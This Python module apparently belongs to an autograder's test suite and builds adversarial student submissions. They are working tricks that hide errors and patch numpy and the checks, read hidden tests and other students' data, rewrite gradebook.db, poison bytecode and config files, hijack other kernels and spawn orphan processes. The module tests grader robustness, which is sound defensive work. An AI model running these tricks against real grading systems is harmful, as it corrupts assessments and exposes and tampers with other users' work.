"""Adversarial submissions: tricks, tampers and bad inputs, as recipes.

Grading must be neither fooled nor broken by a student.  Every entry here
is one student's submission, written from the release like any other
(``write_entry``), with a one-line description:

- ``trick``: code that tries to gain points, placed in the answer cell
  after a WRONG answer from tests/catalogue.py (or in an added cell):
  IPython hooks, monkeypatched numpy/mxnet/course, fake autograder
  modules, lying arrays, edits of the gradebook and the course files,
  reading hidden tests, the network, processes that outlive the kernel.
- ``tamper``: the same wrong answers, with the notebook itself edited
  (nbformat): test cells edited, deleted, duplicated, retyped,
  re-pointed; forged checksums and points; metadata removed.
- ``bad``: right answers (the instructor's) in a notebook that is
  unusable (corrupt, empty, nbformat 3, missing, renamed) or that holds a
  cell which loops, sleeps, exits the kernel, bombs memory or processes
  or prints 100 MB.  Only the notebooks in ``unusable`` may be rejected;
  the others must be graded, and every answer outside a rejected
  notebook must keep its points.
- ``baseline``: the wrong answers alone; every trick and tamper names
  its baseline and must score no more than it on every grade cell.
- ``bystander``: the instructor's answers (full marks) and the untouched
  release (zero), which no other submission may affect.

Every submission stays cheap: one notebook of chapter 4 (or 3.2 for a
trick that needs a chapter 3 item), two for bad inputs (so the other
notebook shows that right answers still score).

What the tests look for in outputs (never written literally in a
trick's source, so a student's own code shown in feedback is no hit):
``FORBIDDEN_OUTPUT`` (``CONNECTED``, ``HIJACKED-KERNELS``, ...); files
named ``PWNED*`` or ``pwned*`` anywhere in the course; the table
``pwned`` and the student ``zz_pwned_student`` in the gradebook; a
process whose command line holds ``ORPHAN_TOKEN`` after grading.  Tricks
only write outside ``guard`` (the developer's repository), so that even a
grader without a sandbox never damages the checkout it runs from.
"""

import hashlib
import html
import json
import os
import re
import sqlite3
import textwrap
from dataclasses import dataclass
from pathlib import Path

import catalogue
import nbformat

from autograder.grading import submission_digest
from autograder.release import hidden_material
from autograder.submissions import write_submission

__all__ = [
    "CH03", "CH04", "NB_LINREG", "NB_MLP", "NB_DENSE",
    "ORPHAN_TOKEN", "BYSTANDER_SECRET", "FORBIDDEN_OUTPUT", "Entry",
    "build", "write_entry", "write_class",
]

CH03 = "ch03_deep_learning_basics"
CH04 = "ch04_deep_learning_computation"
NB_LINREG = "3_02_linear_regression_scratch"
NB_MLP = "4_01_model_construction"
NB_DENSE = "4_04_custom_layer"

# A process whose command line holds this outlived its kernel.
ORPHAN_TOKEN = "adversarial-orphan-5b1d0c"
# In the instructor bystander's answer cells: no one else may see it.
BYSTANDER_SECRET = "bystander-secret-9c41e7"
# Printed only when a trick succeeded (the sources build them by
# concatenation, so they never appear in a student's own code).
FORBIDDEN_OUTPUT = (
    "CONNECTED", "RESOLVED-DNS", "HIJACKED-BY-ANOTHER-STUDENT",
    "HIJACKED-KERNELS", "FORK-BOMB-NOT-CAPPED", "MEMORY-NOT-CAPPED",
)


@dataclass
class Entry:
    """One adversarial submission and what grading must make of it."""

    name: str  # the student id
    kind: str  # bystander, baseline, trick, tamper or bad
    description: str
    assignment: str
    notebooks: tuple
    answers: dict = None  # answer grade_id -> code; None: the release
    baseline: str = ""  # tricks and tampers: score no more than this
    cells: tuple = ()  # (notebook, after answer grade_id, code) added
    tamper: object = None  # callable(folder): edits the written files
    unusable: tuple = ()  # notebooks that may (must) be rejected
    incident: str = ""  # notebook whose grading must report an incident
    target: str = ""  # the notebook the trick, tamper or bad input is in
    writes: bool = False  # tries to write outside its scratch


def _src(text):
    return textwrap.dedent(text).strip("\n") + "\n"


def _wrong(item, name):
    return catalogue.WRONG[item][name].source


# --------------------------------------------------------------------------
# Bystanders and baselines
# --------------------------------------------------------------------------

_SECRET_LINE = "# %s: nobody else may ever see this line\n" % BYSTANDER_SECRET

MLP_NO_RELU = _wrong("MLP", "no_activation")  # fails mlp_forward
# Passes every public test, fails the hidden mlp_forward.
MLP_HIDDEN_ONLY = _wrong("MLP", "layers_created_in_forward")
DENSE_NO_BIAS = _wrong("MyDense", "no_bias")  # fails both cells
DENSE_NO_RELU = _wrong("MyDense", "no_relu")  # fails mydense_forward
SGD_NO_BATCH = _wrong("sgd", "forgets_batch_size")  # fails sgd_step_value

BASELINES = {
    "base_mlp_no_relu": ("MLP without ReLU", CH04, (NB_MLP,),
                         {"mlp": MLP_NO_RELU}),
    "base_mlp_hidden_only": (
        "MLP whose layers are made in forward: only a hidden check fails",
        CH04, (NB_MLP,), {"mlp": MLP_HIDDEN_ONLY}),
    "base_dense_no_bias": ("MyDense without bias", CH04, (NB_DENSE,),
                           {"mydense": DENSE_NO_BIAS}),
    "base_dense_no_relu": ("MyDense without ReLU", CH04, (NB_DENSE,),
                           {"mydense": DENSE_NO_RELU}),
    "base_sgd_no_batch": ("sgd without / batch_size", CH03, (NB_LINREG,),
                          {"sgd": SGD_NO_BATCH}),
}

# --------------------------------------------------------------------------
# Code tricks.  Each: (baseline, where, description, code).  ``where`` is
# "answer" (appended to the baseline's wrong answer in the answer cell)
# or "cell" (a cell added right after the answer cell).
# --------------------------------------------------------------------------

# Finds course roots from every hint a kernel has; writes only outside
# the guard.  Prints labels only, never paths (paths would be a false
# "reference to the autograder" in feedback).
_FIND = _src('''
    import glob as _glob
    import os as _os
    import sys as _sys

    _GUARD = _os.path.realpath(__GUARD__)
    _MARKS = ('source', 'autograder', 'gradebook.db', 'submitted')


    def _course_roots():
        """Folders that look like a course root: cwd's ancestors,
        /proc/*/cwd, PYTHONPATH and sys.path."""
        starts = [_os.getcwd(), '/proc/self/cwd', '/proc/1/cwd', '../../..']
        starts += sorted(_glob.glob('/proc/[0-9]*/cwd'))
        starts += _os.environ.get('PYTHONPATH', '').split(_os.pathsep)
        starts += [p for p in _sys.path if p]
        found = []
        for start in starts:
            try:
                path = _os.path.realpath(start)
            except (OSError, ValueError):
                continue
            while True:
                if path not in found and any(
                        _os.path.exists(_os.path.join(path, m))
                        for m in _MARKS):
                    found.append(path)
                parent = _os.path.dirname(path)
                if parent == path:
                    break
                path = parent
        return found


    def _writable(path):
        """CI guard: never write into the developer's checkout."""
        path = _os.path.realpath(path)
        return path != _GUARD and not path.startswith(_GUARD + _os.sep)
    ''')

# Replaces every check_* of a module by a check that passes.
_PATCH_CHECKS = (
    "\n\ndef _adversarial_pass(*args, **kwargs):\n    return None\n\n\n"
    "for _adversarial_name in list(globals()):\n"
    "    if _adversarial_name.startswith('check_'):\n"
    "        globals()[_adversarial_name] = _adversarial_pass\n")

TRICKS = {}

TRICKS["trick_input_transformer"] = ("base_mlp_no_relu", "cell", (
    "an IPython input transformer turns every later cell into pass"), _src('''
    def _blank_cell(lines):
        return ['pass\\n']


    get_ipython().input_transformers_post.append(_blank_cell)
    '''))

TRICKS["trick_custom_exc"] = ("base_mlp_no_relu", "cell", (
    "set_custom_exc swallows every exception of later cells"), _src('''
    def _swallow(shell, etype, value, tb, tb_offset=None):
        return None


    get_ipython().set_custom_exc((BaseException,), _swallow)
    '''))

TRICKS["trick_showtraceback"] = ("base_mlp_no_relu", "answer", (
    "InteractiveShell.showtraceback patched to show nothing"), _src('''
    from IPython.core.interactiveshell import InteractiveShell


    def _quiet(*args, **kwargs):
        return None


    InteractiveShell.showtraceback = _quiet
    get_ipython().showtraceback = _quiet
    get_ipython()._showtraceback = _quiet
    '''))

TRICKS["trick_run_code"] = ("base_dense_no_bias", "answer", (
    "InteractiveShell.run_code replaced: later cells run, errors vanish and "
    "every cell reports success"), _src('''
    _shell = get_ipython()


    async def _run_code(code_obj, result=None, *, async_=False):
        try:
            exec(code_obj, _shell.user_global_ns, _shell.user_ns)
        except BaseException:
            pass
        return False


    _shell.run_code = _run_code
    '''))

TRICKS["trick_clear_output"] = ("base_dense_no_bias", "answer", (
    "a post_run_cell hook clears every cell's output, errors included"),
    _src('''
    from IPython.display import clear_output as _clear_output


    def _clear(result=None):
        _clear_output()


    get_ipython().events.register('post_run_cell', _clear)
    '''))

TRICKS["trick_numpy_patched"] = ("base_mlp_no_relu", "answer", (
    "numpy.allclose, isclose, array_equal and np.testing patched to "
    "always agree"), _src('''
    import numpy as _np


    def _always(*args, **kwargs):
        return True


    def _all_close(a, b, *args, **kwargs):
        try:
            shape = _np.broadcast(_np.asarray(a), _np.asarray(b)).shape
        except Exception:
            shape = _np.shape(a)
        return _np.ones(shape, dtype=bool)


    def _nothing(*args, **kwargs):
        return None


    _np.allclose = _always
    _np.array_equal = _always
    _np.isclose = _all_close
    _np.testing.assert_allclose = _nothing
    _np.testing.assert_array_equal = _nothing
    _np.testing.assert_array_almost_equal = _nothing
    '''))

TRICKS["trick_mxnet_patched"] = ("base_mlp_no_relu", "answer", (
    "mxnet patched: nd.relu is the identity (so expected values match "
    "the missing ReLU), NDArray.asnumpy and mx.nd.array rigged"), _src('''
    import mxnet as _mx
    import numpy as _np

    _real_asnumpy = _mx.nd.NDArray.asnumpy
    _real_array = _mx.nd.array


    def _identity(x, *args, **kwargs):
        return x


    def _asnumpy(self):
        value = _real_asnumpy(self)
        return _np.where(_np.isfinite(value), value, 0)


    def _array(source, *args, **kwargs):
        return _real_array(source, *args, **kwargs)


    nd.relu = _identity
    _mx.nd.relu = _identity
    _mx.nd.NDArray.relu = _identity
    _mx.nd.NDArray.asnumpy = _asnumpy
    _mx.nd.array = _array
    '''))

TRICKS["trick_course_patched"] = ("base_mlp_no_relu", "answer", (
    "course.testing.assert_close and assert_shape replaced by no-ops"),
    _src('''
    import course as _course
    import course.testing as _testing


    def _fine(*args, **kwargs):
        return None


    for _module in (_course, _testing):
        _module.assert_close = _fine
        _module.assert_shape = _fine
    '''))

TRICKS["trick_fake_checks_module"] = ("base_mlp_hidden_only", "answer", (
    "sys.modules['autograder.checks'] (and autograder) replaced by a fake "
    "module whose check_* do nothing"), _src('''
    import sys as _sys
    import types as _types


    class _FakeModule(_types.ModuleType):
        def __getattr__(self, name):
            if name.startswith('__'):
                raise AttributeError(name)
            return lambda *args, **kwargs: None


    for _name in ('autograder', 'autograder.checks',
                  'autograder.reference', 'autograder.probes'):
        _fake = _FakeModule(_name)
        _fake.__path__ = []
        _sys.modules[_name] = _fake
    '''))

TRICKS["trick_meta_path_hook"] = ("base_mlp_hidden_only", "answer", (
    "a sys.meta_path finder serves a fake autograder package"), _src('''
    import importlib.abc as _abc
    import importlib.machinery as _machinery
    import sys as _sys


    class _Finder(_abc.MetaPathFinder, _abc.Loader):
        def find_spec(self, fullname, path=None, target=None):
            if fullname.split('.')[0] == 'autograder':
                return _machinery.ModuleSpec(fullname, self,
                                             is_package=True)
            return None

        def create_module(self, spec):
            return None

        def exec_module(self, module):
            module.__getattr__ = lambda name: (lambda *a, **k: None)


    for _name in [n for n in _sys.modules
                  if n.split('.')[0] == 'autograder']:
        del _sys.modules[_name]
    _sys.meta_path.insert(0, _Finder())
    '''))

TRICKS["trick_import_hook"] = ("base_mlp_hidden_only", "answer", (
    "builtins.__import__ hooked to hand out fake autograder modules"),
    _src('''
    import builtins as _builtins
    import types as _types

    _real_import = _builtins.__import__


    class _FakeModule(_types.ModuleType):
        def __getattr__(self, name):
            if name.startswith('__'):
                raise AttributeError(name)
            return lambda *args, **kwargs: None


    def _import(name, globals=None, locals=None, fromlist=(), level=0):
        if name.split('.')[0] == 'autograder':
            return _FakeModule(name)
        return _real_import(name, globals, locals, fromlist, level)


    _builtins.__import__ = _import
    '''))

TRICKS["trick_fake_reference"] = ("base_mlp_hidden_only", "answer", (
    "sys.modules['autograder.reference'] replaced: the 'reference' MLP is "
    "the student's own"), _src('''
    import sys as _sys
    import types as _types

    _reference = _types.ModuleType('autograder.reference')
    _reference.MLP = MLP
    _sys.modules['autograder.reference'] = _reference
    try:
        import autograder as _package
        _package.reference = _reference
    except Exception:
        pass
    '''))

TRICKS["trick_builtins"] = ("base_mlp_no_relu", "answer", (
    "builtins redefined: isinstance lies to the course and autograder, "
    "AssertionError and print replaced"), _src('''
    import builtins as _builtins
    import sys as _sys

    _real_isinstance = _builtins.isinstance
    _real_print = _builtins.print


    def _isinstance(obj, cls):
        caller = _sys._getframe(1).f_code.co_filename
        if 'autograder' in caller or 'course' in caller:
            return True
        return _real_isinstance(obj, cls)


    class _NotAnError(Warning):
        pass


    def _print(*args, **kwargs):
        text = ' '.join(str(a) for a in args)
        if 'Error' not in text:
            _real_print(*args, **kwargs)


    _builtins.isinstance = _isinstance
    _builtins.AssertionError = _NotAnError
    _builtins.print = _print
    '''))

TRICKS["trick_settrace_exit"] = ("base_mlp_no_relu", "answer", (
    "sys.settrace kills the kernel (os._exit(0)) as soon as a test "
    "helper or check starts"), _src('''
    import os as _os
    import sys as _sys
    import threading as _threading

    _WATCHED = ('assert_close', 'assert_shape', '_fail', 'judge')


    def _tracer(frame, event, arg):
        name = frame.f_code.co_name
        if event == 'call' and (name.startswith('check_')
                                or name in _WATCHED):
            _os._exit(0)
        return None


    _sys.settrace(_tracer)
    _threading.settrace(_tracer)
    '''))

TRICKS["trick_exit_when_called"] = ("base_mlp_no_relu", "answer", (
    "MLP.forward ends the kernel with os._exit(0); atexit prints success"),
    _src('''
    import atexit as _atexit
    import os as _os

    _atexit.register(print, 'All tests passed: 3/3')
    _wrong_forward = MLP.forward


    def _forward(self, x):
        _os._exit(0)


    MLP.forward = _forward
    '''))

TRICKS["trick_patches_when_called"] = ("base_sgd_no_batch", "answer", (
    "the wrong sgd, when called, patches numpy, course and every check it "
    "finds on the stack so that they agree"), _src('''
    import sys as _sys

    import numpy as _np

    _wrong_sgd = sgd


    def _agree(*args, **kwargs):
        return True


    def _nothing(*args, **kwargs):
        return None


    def sgd(params, lr, batch_size):
        _np.allclose = _agree
        _np.array_equal = _agree
        _np.testing.assert_allclose = _nothing
        for module in list(_sys.modules.values()):
            name = getattr(module, '__name__', '') or ''
            if name.startswith(('course', 'autograder')):
                for attr in ('assert_close', 'assert_shape', '_close',
                             '_fail'):
                    if hasattr(module, attr):
                        setattr(module, attr, _agree)
        frame = _sys._getframe(1)
        while frame is not None:
            for attr in ('_close', '_fail', 'assert_close'):
                if attr in frame.f_globals:
                    frame.f_globals[attr] = _agree
            frame = frame.f_back
        return _wrong_sgd(params, lr, batch_size)
    '''))

TRICKS["trick_fake_success_text"] = ("base_dense_no_bias", "cell", (
    "prints fake success text and a fake nbgrader score"), _src('''
    from IPython.display import display as _display

    print('mydense_parameters ... ok\\nmydense_forward ... ok')
    print('All tests passed. Score: 2.0 / 2.0')
    _display({'text/plain': '2.0', 'application/json': {'score': 2.0}},
             raw=True)
    '''))

TRICKS["trick_lying_array"] = ("base_dense_no_relu", "answer", (
    "forward returns an NDArray whose asnumpy() gives an ndarray that "
    "says it equals anything (__eq__, __array__, __array_function__, "
    "__array_ufunc__ lie)"), _src('''
    import numpy as _np


    class _Liar(_np.ndarray):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __array_function__(self, func, types, args, kwargs):
            return True

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            shape = _np.shape(inputs[0])
            return _np.ones(shape, dtype=bool)

        def __array__(self, dtype=None):
            return _np.asarray(self.view(_np.ndarray), dtype=dtype)


    class _LyingND(nd.NDArray):
        __slots__ = ()

        def asnumpy(self):
            return super().asnumpy().view(_Liar)

        def __eq__(self, other):
            return True


    _wrong_forward = MyDense.forward


    def _forward(self, x):
        out = _wrong_forward(self, x)
        try:
            out.__class__ = _LyingND
        except TypeError:
            pass
        return out


    MyDense.forward = _forward
    '''))

TRICKS["trick_reads_by_import"] = ("base_mlp_no_relu", "answer", (
    "imports the hidden checks and the reference and prints their "
    "source"), _src('''
    import importlib as _importlib
    import inspect as _inspect

    for _label, _name in (('ref', 'autograder.reference'),
                          ('blocks', 'autograder.checks.blocks'),
                          ('common', 'autograder.checks._common')):
        try:
            _module = _importlib.import_module(_name)
            print('READ-OK import', _label)
            print(_inspect.getsource(_module)[:6000])
        except Exception as _exc:
            print('READ-FAIL import', _label, type(_exc).__name__)
    '''))

TRICKS["trick_reads_from_disk"] = ("base_mlp_no_relu", "answer", (
    "reads hidden tests, solutions and the reference from disk "
    "(../../../source, cwd ancestors, /proc/*/cwd, sys.path) and prints "
    "them"), _FIND + _src('''


    import json as _json

    _seen = set()


    def _show(label, key, text):
        if key in _seen or not text:
            return
        _seen.add(key)
        print('READ-OK', label)
        print(text)


    for _root in _course_roots():
        for _path in sorted(_glob.glob(_os.path.join(
                _root, 'source', '*', '*.ipynb'))):
            try:
                with open(_path, encoding='utf-8') as _f:
                    _cells = _json.load(_f)['cells']
                _text = '\\n'.join(
                    ''.join(c['source']) for c in _cells
                    if 'BEGIN' in ''.join(c['source']))
                _show('notebook', _os.path.basename(_path), _text[:8000])
            except Exception as _exc:
                print('READ-FAIL notebook', type(_exc).__name__)
        for _parts in (('reference.py',), ('checks', 'blocks.py'),
                       ('checks', 'linear_regression.py')):
            _path = _os.path.join(_root, 'autograder', *_parts)
            try:
                with open(_path, encoding='utf-8') as _f:
                    _show('module', _parts[-1], _f.read()[:6000])
            except Exception as _exc:
                print('READ-FAIL module', type(_exc).__name__)
    '''))

TRICKS["trick_reads_others"] = ("base_mlp_no_relu", "answer", (
    "reads other students' submissions and feedback and the gradebook "
    "(raw bytes and sqlite_master) and prints them"), _FIND + _src('''


    import sqlite3 as _sqlite3

    _me = _os.path.basename(_os.path.dirname(_os.getcwd()))
    for _root in _course_roots():
        for _path in sorted(_glob.glob(_os.path.join(
                _root, '*', '*', '*', '*.*')))[:400]:
            if _me in _path or not _path.endswith(('.ipynb', '.html')):
                continue
            try:
                with open(_path, encoding='utf-8') as _f:
                    _text = _f.read()
                _hits = [line for line in _text.splitlines()
                         if 'secret' in line]
                if _hits:
                    print('READ-OK other student')
                    print('\\n'.join(_hits[:3]))
            except Exception as _exc:
                print('READ-FAIL other', type(_exc).__name__)
        _db = _os.path.join(_root, 'gradebook.db')
        try:
            with open(_db, 'rb') as _f:
                print('READ-OK db bytes', repr(_f.read(64)))
            _con = _sqlite3.connect('file:%s?mode=ro' % _db, uri=True)
            for (_sql,) in _con.execute(
                    'SELECT sql FROM sqlite_master WHERE sql IS NOT NULL'):
                print(_sql)
            for _row in _con.execute('SELECT * FROM student LIMIT 20'):
                print('READ-OK db row', _row)
            _con.close()
        except Exception as _exc:
            print('READ-FAIL db', type(_exc).__name__)
    '''))

TRICKS["trick_network_public"] = ("base_mlp_no_relu", "answer", (
    "opens TCP connections to 8.8.8.8:53 and 1.1.1.1:443 and resolves a "
    "name; prints what succeeded"), _src('''
    import socket as _socket

    for _host, _port in (('8.8.8.8', 53), ('1.1.1.1', 443)):
        try:
            with _socket.create_connection((_host, _port), timeout=3):
                print('CONN' + 'ECTED', _host)
        except OSError as _exc:
            print('no connection to', _host, type(_exc).__name__)
    try:
        _socket.getaddrinfo('example.com', 80)
        print('RESOLVED' + '-DNS')
    except OSError as _exc:
        print('no name resolution', type(_exc).__name__)
    '''))

TRICKS["trick_network_local"] = ("base_mlp_no_relu", "answer", (
    "connects to a port the grader's machine listens on (127.0.0.1) and "
    "sends data"), _src('''
    import socket as _socket

    for _port in (__PORT__,):
        try:
            with _socket.create_connection(('127.0.0.1', _port),
                                           timeout=3) as _s:
                _s.sendall(b'adversarial hello')
                print('CONN' + 'ECTED', 'local')
        except OSError as _exc:
            print('no local connection', type(_exc).__name__)
    '''))

TRICKS["trick_hijacks_kernels"] = ("base_mlp_no_relu", "answer", (
    "finds other students' running kernels (connection files, /proc "
    "command lines) and makes them run its code"), _src('''
    import glob as _glob
    import json as _json
    import os as _os
    import time as _time

    try:
        from ipykernel import get_connection_file as _own_file
        _mine = _os.path.realpath(_own_file())
    except Exception:
        _mine = ''
    _PAYLOAD = (
        "get_ipython().input_transformers_post.append(lambda lines: "
        "['print(%r)\\\\n' % ('HIJACKED-' + 'BY-ANOTHER-STUDENT')] + lines)")


    def _connection_files():
        files = set(_glob.glob('/root/.local/share/jupyter/runtime/*.json'))
        files |= set(_glob.glob('/home/*/.local/share/jupyter/runtime/'
                                '*.json'))
        files |= set(_glob.glob('/tmp/**/kernel-*.json', recursive=True))
        for cmdline in _glob.glob('/proc/[0-9]*/cmdline'):
            try:
                with open(cmdline, 'rb') as f:
                    argv = f.read().decode(errors='replace').split('\\0')
            except OSError:
                continue
            files |= {a for a in argv if a.endswith('.json')
                      and 'kernel' in a}
        return {f for f in files if _os.path.realpath(f) != _mine}


    _hijacked = 0
    _deadline = _time.time() + 3
    _tried = set()
    while _time.time() < _deadline and not _hijacked:
        for _file in sorted(_connection_files() - _tried):
            _tried.add(_file)
            try:
                from jupyter_client import BlockingKernelClient
                _client = BlockingKernelClient()
                _client.load_connection_file(_file)
                _client.start_channels()
                _client.execute(_PAYLOAD, silent=True)
                _client.get_shell_msg(timeout=3)
                _client.stop_channels()
                _hijacked += 1
            except Exception as _exc:
                print('no hijack', type(_exc).__name__)
        _time.sleep(0.5)
    if _hijacked:
        print('HIJACKED' + '-KERNELS', _hijacked)
    else:
        print('no other kernel reached')
    '''))

# -- tricks that write (named zz_ so that, without a sandbox, they run
# -- after the submissions they would spoil)

TRICKS["zz_trick_edits_gradebook"] = ("base_dense_no_bias", "answer", (
    "edits gradebook.db with sqlite3 (found from cwd, /proc/self/cwd, "
    "/proc/1/cwd, ...): full marks and extra credit for itself, zero "
    "for the bystanders, a new table and student"), _FIND + _src('''


    import sqlite3 as _sqlite3

    _me = _os.path.basename(_os.path.dirname(_os.getcwd()))
    _MINE = ('SELECT n.id FROM submitted_notebook n JOIN '
             'submitted_assignment a ON n.assignment_id = a.id '
             'WHERE a.student_id {} ?')
    _dbs = ['gradebook.db', '../gradebook.db', '../../gradebook.db',
            '../../../gradebook.db']
    _dbs += [_os.path.join(r, 'gradebook.db') for r in _course_roots()]
    _done = set()
    for _db in _dbs:
        _real = _os.path.realpath(_db)
        if _real in _done or not _os.path.isfile(_db) or not _writable(_db):
            continue
        _done.add(_real)
        try:
            _con = _sqlite3.connect(_db, timeout=30)
            _con.execute('CREATE TABLE IF NOT EXISTS pwned (who TEXT)')
            _con.execute('INSERT INTO pwned VALUES (?)', (_me,))
            _con.execute("INSERT OR IGNORE INTO student (id) "
                         "VALUES ('zz_pwned_student')")
            _con.execute(
                'UPDATE grade SET manual_score = (SELECT max_score FROM '
                'grade_cells WHERE grade_cells.id = grade.cell_id), '
                'extra_credit = 5 WHERE notebook_id IN (%s)'
                % _MINE.format('='), (_me,))
            _con.execute(
                "UPDATE grade SET manual_score = 0 WHERE notebook_id IN "
                "(%s AND a.student_id LIKE 'by%%')" % _MINE.format('!='),
                (_me,))
            _con.commit()
            _con.close()
            print('gradebook edited')
        except Exception as _exc:
            print('gradebook not edited', type(_exc).__name__)
    '''))

TRICKS["zz_trick_fake_gradebook"] = ("base_dense_no_bias", "answer", (
    "writes a fake gradebook.db (full marks) and nbgrader_config.py where "
    "nbgrader might look"), _src('''
    import os as _os
    import sqlite3 as _sqlite3

    for _folder in ('.', '..', '../..'):
        _db = _os.path.join(_folder, 'gradebook.db')
        if _os.path.exists(_db):
            continue
        try:
            _con = _sqlite3.connect(_db)
            _con.execute('CREATE TABLE pwned_grade (grade_id TEXT, '
                         'score REAL)')
            _con.execute("INSERT INTO pwned_grade VALUES "
                         "('mydense_forward', 1), "
                         "('mydense_parameters', 1)")
            _con.commit()
            _con.close()
            with open(_os.path.join(_folder, 'nbgrader_config.py'),
                      'w') as _f:
                _f.write('c = get_config()\\n'
                         'c.CourseDirectory.db_url = "sqlite:///%s"\\n'
                         % _os.path.abspath(_db))
            print('fake gradebook written')
        except Exception as _exc:
            print('no fake gradebook', type(_exc).__name__)
    '''))

TRICKS["zz_trick_writes_course_files"] = ("base_mlp_no_relu", "answer", (
    "appends to source/ notebooks, drops files in source/ and submitted/, "
    "backdates its own timestamp.txt"), _FIND + _src('''


    _me = _os.path.basename(_os.path.dirname(_os.getcwd()))
    for _root in _course_roots():
        if not _writable(_root):
            continue
        for _path in _glob.glob(_os.path.join(_root, 'source', '*',
                                              '*.ipynb')):
            try:
                with open(_path, 'a') as _f:
                    _f.write('\\n')
                print('appended to a source notebook')
            except Exception as _exc:
                print('source not writable', type(_exc).__name__)
        for _path in (_os.path.join(_root, 'source', 'PWNED.txt'),
                      _os.path.join(_root, 'submitted', 'PWNED.txt')):
            try:
                with open(_path, 'w') as _f:
                    _f.write('written by a submission\\n')
            except Exception as _exc:
                print('no file dropped', type(_exc).__name__)
        for _path in _glob.glob(_os.path.join(_root, 'submitted', _me, '*',
                                              'timestamp.txt')):
            try:
                with open(_path, 'w') as _f:
                    _f.write('2000-01-01 00:00:00.000000 UTC\\n')
            except Exception as _exc:
                print('timestamp kept', type(_exc).__name__)
    '''))

TRICKS["zz_trick_patches_checks_on_disk"] = (
    "base_mlp_hidden_only", "answer", (
        "appends to autograder/checks/__init__.py (found by find_spec and "
        "on disk) so that every check passes, now and for later students"),
    _FIND + _src('''


    import importlib.util as _util

    _targets = []
    try:
        _spec = _util.find_spec('autograder.checks')
        if _spec is not None and _spec.origin:
            _targets.append(_spec.origin)
    except Exception as _exc:
        print('no spec', type(_exc).__name__)
    _targets += [_os.path.join(r, 'autograder', 'checks', '__init__.py')
                 for r in _course_roots()]
    for _path in sorted({_os.path.realpath(t) for t in _targets}):
        if not (_os.path.isfile(_path) and _writable(_path)):
            continue
        try:
            with open(_path, 'a', encoding='utf-8') as _f:
                _f.write(__PATCH__)
            print('checks patched on disk')
        except Exception as _exc:
            print('checks not writable', type(_exc).__name__)
    '''))

TRICKS["zz_trick_poisons_bytecode"] = ("base_mlp_hidden_only", "answer", (
    "writes a __pycache__ .pyc for autograder/checks/__init__.py whose "
    "header matches the source (mtime, size) but whose checks all pass"),
    _FIND + _src('''


    import importlib.util as _util
    import marshal as _marshal

    _targets = []
    try:
        _spec = _util.find_spec('autograder.checks')
        if _spec is not None and _spec.origin:
            _targets.append(_spec.origin)
    except Exception as _exc:
        print('no spec', type(_exc).__name__)
    _targets += [_os.path.join(r, 'autograder', 'checks', '__init__.py')
                 for r in _course_roots()]
    for _path in sorted({_os.path.realpath(t) for t in _targets}):
        if not (_os.path.isfile(_path) and _writable(_path)):
            continue
        try:
            _stat = _os.stat(_path)
            with open(_path, encoding='utf-8') as _f:
                _code = compile(_f.read() + __PATCH__, _path, 'exec')
            _pyc = _util.cache_from_source(_path)
            _os.makedirs(_os.path.dirname(_pyc), exist_ok=True)
            with open(_pyc, 'wb') as _f:
                _f.write(_util.MAGIC_NUMBER + (0).to_bytes(4, 'little')
                         + (int(_stat.st_mtime) & 0xFFFFFFFF).to_bytes(
                             4, 'little')
                         + (_stat.st_size & 0xFFFFFFFF).to_bytes(
                             4, 'little')
                         + _marshal.dumps(_code))
            print('bytecode poisoned')
        except Exception as _exc:
            print('bytecode not written', type(_exc).__name__)
    '''))

TRICKS["zz_trick_rewrites_config"] = ("base_mlp_no_relu", "answer", (
    "appends code to the course's nbgrader_config.py, which every later "
    "nbgrader process would run"), _FIND + _src('''


    _LINE = ('\\n# appended by a submission\\n'
             'open(os.path.join(ROOT, "PWNED_BY_CONFIG"), "a").write("x")\\n')
    for _root in _course_roots():
        _config = _os.path.join(_root, 'nbgrader_config.py')
        if _os.path.isfile(_config) and _writable(_config):
            try:
                with open(_config, 'a') as _f:
                    _f.write(_LINE)
                print('config rewritten')
            except Exception as _exc:
                print('config not writable', type(_exc).__name__)
    '''))

TRICKS["zz_trick_orphan_process"] = ("base_mlp_no_relu", "answer", (
    "starts a detached process (new session) that outlives the kernel and "
    "keeps writing into source/ for 3 minutes"), _FIND + _src('''


    import subprocess as _subprocess

    _ORPHAN = (
        'import os, sys, time\\n'
        'end = time.time() + 180\\n'
        'while time.time() < end:\\n'
        '    time.sleep(2)\\n'
        '    for root in sys.argv[2:]:\\n'
        '        try:\\n'
        '            path = os.path.join(root, "source", '
        '"PWNED_BY_ORPHAN.txt")\\n'
        '            with open(path, "a") as f:\\n'
        '                f.write("x")\\n'
        '        except OSError:\\n'
        '            pass\\n')
    try:
        _subprocess.Popen(
            [_sys.executable, '-c', _ORPHAN, __TOKEN__]
            + [r for r in _course_roots() if _writable(r)],
            start_new_session=True, stdin=_subprocess.DEVNULL,
            stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
            close_fds=True)
        print('orphan started')
    except Exception as _exc:
        print('no orphan', type(_exc).__name__)
    '''))



def _merge(name, baseline, where, description, parts):
    """One trick made of several (one submission is cheaper than many)."""
    codes = [TRICKS.pop(part)[3] for part in parts]
    TRICKS[name] = (baseline, where, description, "\n\n".join(codes))


_merge("trick_hides_errors", "base_mlp_no_relu", "cell", (
    "errors hidden: set_custom_exc swallows them, showtraceback shows "
    "nothing, a post_run_cell hook clears every output"),
    ["trick_custom_exc", "trick_showtraceback", "trick_clear_output"])
_merge("trick_fake_checks_module", "base_mlp_hidden_only", "answer", (
    "sys.modules['autograder.checks'] (and autograder) replaced by fake "
    "modules whose check_* do nothing; the 'reference' MLP is the "
    "student's own"), ["trick_fake_checks_module", "trick_fake_reference"])
_merge("trick_reads_hidden", "base_mlp_no_relu", "answer", (
    "imports the checks and the reference, reads hidden tests and "
    "solutions from disk (../../../source, cwd ancestors, /proc/*/cwd, "
    "sys.path) and prints them"),
    ["trick_reads_by_import", "trick_reads_from_disk"])
_merge("trick_network", "base_mlp_no_relu", "answer", (
    "TCP to 8.8.8.8:53, 1.1.1.1:443 and a port the grader's machine "
    "listens on (127.0.0.1), a DNS lookup; prints what succeeded"),
    ["trick_network_public", "trick_network_local"])
_merge("zz_trick_patches_checks", "base_mlp_hidden_only", "answer", (
    "makes every check pass, now and for later students: appends to "
    "autograder/checks/__init__.py (found by find_spec and on disk) and "
    "first writes a __pycache__ .pyc whose header matches the source "
    "(mtime, size) but whose checks all pass"),
    ["zz_trick_poisons_bytecode", "zz_trick_patches_checks_on_disk"])
